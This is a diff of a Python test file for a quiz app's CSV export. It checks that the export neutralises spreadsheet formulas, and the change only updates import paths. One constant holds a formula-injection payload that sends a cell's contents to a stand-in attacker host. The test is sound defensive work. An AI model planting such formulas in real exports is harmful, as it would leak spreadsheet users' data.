@@ -1,6 +1,6 @@
 """CSV exports never hand a spreadsheet a formula (issue 16.8).
 
-The Team tables and a trainee's answers are downloaded through ``quiz.csv_export.csv_bytes``
+The Team tables and a trainee's answers are downloaded through ``quiz.report.csv_export.csv_bytes``
 (the one CSV writer: the pages call it, nothing else calls ``to_csv``). Text cells a
 spreadsheet could run start with an apostrophe; numbers, negative ones too, stay numbers.
 """
@@ -18,11 +18,11 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from quiz.attempt import AttemptRecord
-from quiz.csv_export import csv_bytes, runs_as_formula
-from quiz.progress_view import attempts_in
-from quiz.store import attempts_frame
-from quiz.team_view import overview_table
+from quiz.model.attempt import AttemptRecord
+from quiz.report.csv_export import csv_bytes, runs_as_formula
+from quiz.report.progress import attempts_in
+from quiz.db.store import attempts_frame
+from quiz.report.team_tables import overview_table
 
 ROOT = Path(__file__).resolve().parents[1]
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
